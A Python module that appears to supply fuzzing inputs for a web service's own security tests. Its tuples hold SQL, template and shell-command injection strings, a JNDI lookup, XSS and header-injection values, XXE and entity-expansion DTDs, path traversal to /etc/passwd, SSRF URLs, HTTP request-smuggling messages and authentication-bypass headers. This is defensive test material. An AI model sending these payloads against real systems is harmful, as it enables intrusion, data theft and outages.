"""Hostile texts: what has crashed, slowed, misled or opened comparable systems, and what their parsers stumble over.

``places`` of a run are put in: ``{listener}`` is the address of a socket that nobody may connect to, ``{secret}`` the
path of a file that nobody may read.
"""

from __future__ import annotations

from typing import Final

MARK: Final = "fuzzmark"
"""In what must not come back as markup or as a header."""
SUM: Final = "1788906"
"""1337 * 1338: in an answer if a template was evaluated."""
CONTENT: Final = "content-of-a-file-that-nobody-may-read"

NUMBERS: Final = (
    "0", "-0", "-1", "1e400", "-1e400", "NaN", "nan", "inf", "-inf", "Infinity", "1e-400", "0x10", "1_000", "١٢٣", "٣.٥",
    "9" * 30, "9" * 400, "-" + "9" * 5000, "1" + "0" * 50_000, "1.", ".5", "+5", "1,5", "1e5", "2147483648",
    "9223372036854775807", "9223372036854775808", "-9223372036854775809", "18446744073709551616", "0.1" * 3, " 1 ", "",
)  # fmt: skip
TIMES: Final = (
    "latest", "first", "now", "2014-06-01/2014-06-02", "2014-06-02/2014-06-01", "2014-06-01/..", "../..", "/", "P1D/P1D",
    "2014-02-30", "0000-01-01", "-0001-01-01T00:00:00Z", "9999-12-31T23:59:60Z", "10000-01-01", "2014-06-01T25:00:00Z",
    "2014-06-01T00:00:00+99:99", "2014-06-01T00:00:00.123456789123456789Z", "2014-W23", "2014-153", "PT0S", "-P1D", "P" + "9" * 400 + "D",
    "2014-06-01/P999999999Y", "2014-06-01/PT1S", "2014-06-01T00:00:00" + "0" * 50_000, "P1Y2M3DT4H5M6.7S", "0001-01-01/9999-12-31",
    ",".join(["2014-06-01"] * 1001), "1970-01-01T00:00:00Z/P" + "1" * 50_000 + "D", "24:00", "2014-06-01 00:00:00",
)  # fmt: skip
INJECTIONS: Final = (
    "' OR '1'='1", "'; DROP TABLE workspace; --", "\" OR 1=1 --", "x') UNION SELECT name FROM sqlite_master --", "%", "_",
    "a\\", "\\'", "(a|a)*$", "(a+)+$", "*", "**", "[", "^(.*)*$", "$where", "|| pg_sleep(20) --", "1 OR 1=1", "sqlite_master",
    "exec(java.lang.Runtime.getRuntime(),'id')", "().__class__.__mro__", "__class__", "${{1337*1338}}", "{{1337*1338}}",
    "#{{1337*1338}}", "<%= 1337*1338 %>", "$(id)", "`id`", "; id", "%n%n%s", "{0.__class__}", "${jndi:ldap://{listener}/a}",
    f"<script>{MARK}()</script>", f"\"><script>{MARK}()</script>", f"'><img src=x onerror={MARK}()>", f"javascript:{MARK}()",
    f"]]><script>{MARK}()</script>", "<![CDATA[", "<!--", "-->", "&amp;lt;", "&#0;", "&#xD800;", "&x;", "&" * 50,
    f"x\r\nX-Injected: {MARK}", f"x%0d%0aX-Injected:%20{MARK}", f"x\nSet-Cookie: {MARK}=1", "\x1b[2J\x1b]0;title\x07",
    "+proj=longlat +nadgrids={secret}", "+init=epsg:4326 +nadgrids=@{secret}", "EPSG:999999999", "EPSG:-1", "EPSG:4326 ", "OGC:CRS84",
    "urn:ogc:def:crs:EPSG::" + "9" * 400, "http://www.opengis.net/def/crs/EPSG/0/" + "1" * 5000,
    "GEOGCS[\"x\"," * 300, "PROJCS[\"", "IAU_2015:30100", "http://{listener}/def/crs/EPSG/0/4326",
)  # fmt: skip
PLACES: Final = (
    "{secret}", "file://{secret}", "file:///etc/passwd", "http://{listener}/x", "https://{listener}/x", "ftp://{listener}/x",
    "http://{listener}@example.org/", "gopher://{listener}/", "\\\\{listener}\\share", "//{listener}/x", "http:{listener}",
    "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "....//....//etc/passwd", "/etc/passwd\0.xml", "C:\\windows\\win.ini",
    "data:text/xml;base64,PGEvPg==", "jar:http://{listener}/a!/b", "php://filter/resource={secret}", "urn:x:../../y", "CON", "nul",
)  # fmt: skip
TEXTS: Final = (
    "\0", "a\0b", "\x01\x02\x08\x0b\x1f\x7f", "\ufffe\uffff", "\U0010ffff", "\u202eabc", "e\u0301" * 30, "\u0000".join("abc"),
    "𝒳" * 100, "a" * 300, "a" * 5000, "a" * 100_000, "ä" * 40_000, "," * 20_000, "@" * 5000, "a,b@c" * 2000, " " * 5000, "\t\n\r",
    ":" * 500, "/" * 5000, "urn:" * 400, "%" * 300, "%zz", "%25" * 100, "&" * 500, "=" * 500, ";" * 5000, "+" * 500, "null", "None",
    "undefined", "true", "TRUE", "[]", "{}", "\\u0000", "\\ud800", "İ", "ſ", "ﬀ", "K", "İ".lower(), "ß" * 50,
)  # fmt: skip
ALL: Final = NUMBERS + TIMES + INJECTIONS + PLACES + TEXTS
"""Of which every run is to try each one somewhere."""

BYTES: Final = (
    b"\xff", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xfe\xff\x00<", b"\x00", b"\x80" * 50, b"\xef\xbb\xbf", b"\r\n\r\n",
    b"%00", b"%ff", b"%c0%af", b"%u0041", b"%", b"%2", b"\x1f\x8b\x08\x00",
)  # fmt: skip

PROLOGUES: Final = (
    "<!DOCTYPE a [<!ENTITY x SYSTEM 'file://{secret}'>]>",
    "<!DOCTYPE a [<!ENTITY x SYSTEM 'http://{listener}/x'>]>",
    "<!DOCTYPE a [<!ENTITY % x SYSTEM 'http://{listener}/x.dtd'> %x;]>",
    "<!DOCTYPE a SYSTEM 'http://{listener}/x.dtd'>",
    "<!DOCTYPE a PUBLIC '-//x//y//EN' 'http://{listener}/x.dtd'>",
    "<!DOCTYPE a [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>"
    "<!ENTITY d '&c;&c;&c;&c;&c;&c;&c;&c;'><!ENTITY e '&d;&d;&d;&d;&d;&d;&d;&d;'><!ENTITY x '&e;&e;&e;&e;&e;&e;&e;&e;'>]>",
    "<!DOCTYPE a [<!ENTITY x '" + "x" * 50_000 + "'>]>",
    "<!DOCTYPE a [<!ELEMENT a ANY><!ATTLIST a b CDATA 'c'>]>",
    "<?xml-stylesheet type='text/xsl' href='http://{listener}/x.xsl'?>",
    "<!--" + "-x" * 20_000 + "-->",
    "<?x " + "y" * 20_000 + "?>",
    "<?xml version='1.0' encoding='UTF-7'?>", "<?xml version='1.0' encoding='IBM037'?>", "<?xml version='1.1'?>",
    "<?xml version='1.0' encoding='" + "x" * 5000 + "'?>", "<?xml version='1.0' standalone='maybe'?>", "\ufeff\ufeff", " \n",
)  # fmt: skip
"""Before a document's root."""
ELEMENTS: Final = (
    "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://{secret}' parse='text'/>",
    "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='http://{listener}/x'/>",
    "<xop:Include xmlns:xop='http://www.w3.org/2004/08/xop/include' href='http://{listener}/x'/>",
    "<wsa:ReplyTo xmlns:wsa='http://www.w3.org/2005/08/addressing'><wsa:Address>http://{listener}/x</wsa:Address></wsa:ReplyTo>",
    "<a xmlns:xlink='http://www.w3.org/1999/xlink' xlink:href='http://{listener}/x' xlink:type='simple' xlink:actuate='onLoad'/>",
    "<a xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='http://{listener}/n http://{listener}/x.xsd' xsi:nil='true'/>",
    "<a " + " ".join(f"b{i}=''" for i in range(3000)) + "/>",
    "<a " + " ".join(f"xmlns:b{i}='urn:{i}'" for i in range(2000)) + "/>",
    "<a b='" + "x" * 60_000 + "'/>", "<" + "a" * 60_000 + "/>", "<a>" * 3000 + "</a>" * 3000, "<a/>" * 20_000, "<a>&undefined;</a>",
    "<a b='1' b='2'/>", "<a:b/>", "<a", "</a>", "<a></b>", "<a b=c/>", "<1/>", "<a\0/>", "<a>\x0b</a>", "<![CDATA[" + "]]" * 5000 + "]]>",
    "<gml:Polygon xmlns:gml='http://www.opengis.net/gml'><gml:exterior><gml:LinearRing><gml:posList>"
    + "1 2 " * 20_000 + "</gml:posList></gml:LinearRing></gml:exterior></gml:Polygon>",
    "<gml:MultiSurface xmlns:gml='http://www.opengis.net/gml'><gml:surfaceMember>" * 100 + "</gml:surfaceMember></gml:MultiSurface>" * 100,
    "<gml:Point xmlns:gml='http://www.opengis.net/gml' srsName='+proj=longlat +nadgrids={secret}'><gml:pos>nan inf</gml:pos></gml:Point>",
)  # fmt: skip
JSON_TEXTS: Final = (
    "NaN", "Infinity", "-Infinity", "1e400", "1" + "0" * 20_000, "0.1e-9999999999", "\"\\ud800\"", "\"\\u0000\"", "[" * 20_000,
    "[" * 700 + "]" * 700, "{\"a\":" * 5000, "{\"a\":" * 500 + "1" + "}" * 500, "{\"a\":1,\"a\":2}", "'a'", "// x", "[1,]", "nul", "\"\\x\"",
    "\"" + "x" * 100_000 + "\"", "{\"__proto__\":{}}", "{\"$ref\":\"http://{listener}/x\"}", "{\"@context\":\"http://{listener}/x\"}",
    "{\"@context\":[\"file://{secret}\",{\"@import\":\"http://{listener}/x\"}]}", "[]", "\"\"", "-", "-01", "\ufeff{}", "",
)  # fmt: skip
"""In place of a JSON value."""

PATHS: Final = (
    "/{door}/..%2f..%2fetc%2fpasswd", "/{door}/../../../../etc/passwd", "//{door}", "/{door}//", "/%2e%2e/{door}", "/{door}%00", "/{door};x=y",
    "/DEFAULT/{door}", "/default/{door}", "/nowhere/{door}", "/%73os", "/{door}/\\..\\..", "/static/../../settings.py", "/static/%2e%2e/%2e%2e/app.py",
    "/static..", "/static/..%5c..%5cx", "/static/{secret}", "/__class__", "/admin", "/admin/", "/admin/users", "/metrics/", "/.git/config", "/.env",
    "/" + "a" * 3000, "/" + "a/" * 1000, "/%ff%fe", "/%0d%0aX-Injected:%20fuzzmark", "/{door}?a=%0d%0aX-Injected:%20fuzzmark", "*", "",
    "http://{listener}/{door}", "http://{listener}:80@127.0.0.1/{door}", "/{door}#fragment", "/{door}/%2F%2F{listener}", "/login?next=//{listener}",
    "/login?next=/%5c{listener}", "/health/live/x", "/health/ready?x=" + "y" * 2000, "/sos\t", "/{door}?" + "a&" * 500, "/{door}?" + "a=b&" * 300,
)  # fmt: skip
HEADERS: Final = (
    ("Range", "bytes=" + ",".join(f"{i}-{i}" for i in range(5000))), ("Range", "bytes=0-"), ("Range", "bytes=-1"), ("Range", "lines=1-2"),
    ("If-None-Match", "*"), ("If-None-Match", ",".join(['"x"'] * 3000)), ("If-Match", '"x"'), ("If-Modified-Since", "Thu, 99 Foo 2014"),
    ("Accept-Encoding", "gzip;q=" + "9" * 500), ("Accept-Encoding", ",".join(["x;q=0.1"] * 2000)), ("Accept-Encoding", "gzip, zstd, br, *;q=0"),
    ("Accept", "*/*;q=nan, " * 500), ("Accept", "text/html"), ("Accept", "application/json"), ("Accept-Language", "x" * 5000), ("Accept-Charset", "utf-7"),
    ("Content-Type", "application/json"), ("Content-Type", "text/plain"), ("Content-Type", "application/x-www-form-urlencoded"),
    ("Content-Type", "multipart/form-data; boundary=x"), ("Content-Type", "multipart/form-data; boundary=" + "\\" * 20_000),
    ("Content-Type", "application/soap+xml; charset=utf-16"), ("Content-Type", "text/xml; charset=" + "x" * 3000), ("Content-Type", ""),
    ("Content-Encoding", "gzip"), ("Content-Encoding", "deflate"), ("Content-Encoding", "gzip, gzip"), ("Content-Encoding", "br"), ("Content-Encoding", "x" * 3000),
    ("Authorization", "Basic"), ("Authorization", "Basic !!!!"), ("Authorization", "Basic " + "A" * 6000), ("Authorization", "Bearer"),
    ("Authorization", "Bearer " + "a" * 5000), ("Authorization", "Bearer ../../x"), ("Authorization", "Digest username=admin"), ("Authorization", "bare-token"),
    ("Authorization", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9."), ("Authorization", "Bearer ey" + "." * 2000), ("Authorization", "\x01\x02"),
    ("Authorization", "Negotiate " + "Y" * 500), ("Authorization", "Basic OjpAOjo="), ("Authorization", "Basic YWRtaW46\xff"),
    ("Cookie", "thalweg-session="), ("Cookie", "thalweg-session=" + "x" * 5000), ("Cookie", "a;" * 5000), ("Cookie", "thalweg-session=\x80; thalweg-session=y"),
    ("Cookie", "thalweg-session=gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjA1pZCA+IC90bXAvZnV6epSFlFKULg=="), ("Cookie", "session=" + "{{1337*1338}}"),
    ("X-CSRF-Token", "x" * 3000), ("X-Forwarded-For", "127.0.0.1"), ("X-Forwarded-For", ", ".join(["1.2.3.4"] * 1000)), ("X-Forwarded-Host", "{listener}"),
    ("X-Forwarded-Proto", "javascript"), ("Forwarded", "for=\"[::1]\";host={listener}"), ("X-Remote-User", "admin"), ("Remote-User", "admin"), ("X-Original-URL", "/admin/audit"),
    ("X-Rewrite-URL", "/admin/audit"), ("X-HTTP-Method-Override", "DELETE"), ("Host", "{listener}"), ("Host", ""), ("Host", "a b\"<>"), ("Host", "x" * 3000),
    ("Origin", "null"), ("Origin", "http://{listener}"), ("Referer", "http://{listener}/<script>"), ("User-Agent", "<script>fuzzmark()</script>"),
    ("Expect", "100-continue"), ("Expect", "x"), ("Upgrade", "websocket"), ("Upgrade", "h2c"), ("Connection", "Upgrade, HTTP2-Settings"), ("Connection", "close"),
    ("Connection", "keep-alive, Authorization, Host"), ("TE", "trailers"), ("Via", "1.1 x"), ("Max-Forwards", "0"), ("Proxy", "http://{listener}"),
    ("Proxy-Authorization", "Basic YTpi"), ("Access-Control-Request-Method", "DELETE"), ("Link", "<http://{listener}/x>; rel=\"http://www.w3.org/ns/json-ld#context\""),
    ("SOAPAction", "x"), ("X-" + "Y" * 2000, "z"), ("X-Z", "\x80\xff"), ("X-Tab", "\ta"), ("Sec-Fetch-Site", "cross-site"), ("Prefer", "x=" * 500), ("Date", "x"),
)  # fmt: skip
METHODS: Final = (
    "GET",
    "POST",
    "HEAD",
    "OPTIONS",
    "PUT",
    "DELETE",
    "PATCH",
    "TRACE",
    "CONNECT",
    "PROPFIND",
    "get",
    "GETX",
    "FOO" * 20,
)

RAW: Final = (
    b"GET {path} HTTP/1.1\r\n\r\n",
    b"GET {path} HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    b"GET {path} HTTP/1.0\r\n\r\n",
    b"GET {path}\r\n",
    b"GET {path} HTTP/0.9\r\n\r\n", b"GET {path} HTTP/2.0\r\nHost: a\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /metrics HTTP/1.1\r\nHost: a\r\n\r\n",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding : chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: xchunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip, chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n+5\r\nhello\r\n0\r\n\r\n",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0x5\r\nhello\r\n0\r\n\r\n",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n-1\r\nhello\r\n0\r\n\r\n",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n100000000000000000\r\nhello\r\n0\r\n\r\n",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5;a=" + b"b" * 50_000 + b"\r\nhello\r\n0\r\n\r\n",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhelloX0\r\n\r\n",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n5\nhello\n0\n\n",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nAuthorization: Basic YTpi\r\nX-Trailer: y\r\n\r\n",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Length: +5\r\n\r\nhello",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Length: 5, 5\r\n\r\nhello",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Length: -5\r\n\r\nhello",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999999999999999\r\n\r\nhello",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999\r\n\r\nhello",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Length: 0005\r\n\r\nhello",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 5\r\n\r\nhello",
    b"GET {path} HTTP/1.1\r\nHost: a\r\nContent-Length: 500\r\n\r\n",
    b"GET {path} HTTP/1.1\r\nHost: a\r\n X: folded\r\n\r\n", b"GET {path} HTTP/1.1\r\nHost: a\r\nX\r\n\r\n", b"GET {path} HTTP/1.1\r\nHost: a\r\n: x\r\n\r\n",
    b"GET {path} HTTP/1.1\r\nHost: a\r\nX\0Y: z\r\n\r\n", b"GET {path} HTTP/1.1\r\nHost: a\r\nX: a\0b\r\n\r\n", b"GET {path} HTTP/1.1\nHost: a\n\n",
    b"GET {path} HTTP/1.1\rHost: a\r\r", b"\r\n\r\n\r\nGET {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n", b"GET  {path}  HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET {path} HTTP/1.1 x\r\nHost: a\r\n\r\n", b"GET\t{path}\tHTTP/1.1\r\nHost: a\r\n\r\n", b"G\xffT {path} HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET {path} HTTP/1.1\r\nHost: a\r\n" + b"".join(b"X-%d: y\r\n" % i for i in range(500)) + b"\r\n",
    b"GET {path} HTTP/1.1\r\nHost: a\r\nX: " + b"y" * 200_000 + b"\r\n\r\n", b"GET /" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n" * 50 + b"GET {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\x00" * 200,
    b"\0" * 1000, b"SSH-2.0-x\r\n", b"GET / HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: eA==\r\nSec-WebSocket-Version: 13\r\n\r\n",
    b"POST {path} HTTP/1.1\r\nHost: a\r\nContent-Encoding: gzip\r\nContent-Length: 5\r\n\r\nhello", b"GET {path} HTTP/1.1\r\nAuthorization: a\r\nAuthorization: b\r\nHost: a\r\n\r\n",
)  # fmt: skip
"""Whole exchanges that no client library would send, each on a connection of its own."""


def fill(text: str, places: dict[str, str]) -> str:
    """The places of a run put in; other braces stay (``format`` would read them)."""
    if "{" in text:
        for name, value in places.items():
            text = text.replace("{" + name + "}", value)
    return text
